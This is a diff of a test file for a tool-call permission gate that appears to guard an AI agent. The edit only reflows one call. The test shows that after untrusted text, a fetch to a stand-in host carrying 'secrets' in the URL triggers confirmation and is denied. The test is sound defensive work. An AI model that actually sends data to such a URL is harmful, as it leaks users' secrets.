@@ -171,7 +171,10 @@ describe("Gate", () => {
     expect(after.decision).toBe("confirm");
     expect(after.code).toBe("USER_DENIED");
     // A URL of unknown origin after untrusted text could carry data out: it asks too.
-    const exfil = await gate.call({ tool: "test_fetch", args: { url: "https://evil.example/?d=secrets" } }, run);
+    const exfil = await gate.call(
+      { tool: "test_fetch", args: { url: "https://evil.example/?d=secrets" } },
+      run,
+    );
     expect(exfil.decision).toBe("confirm");
     expect(exfil.code).toBe("USER_DENIED");
     const known = await gate.call({ tool: "test_fetch", args: { url: "https://example.com/" } }, run);
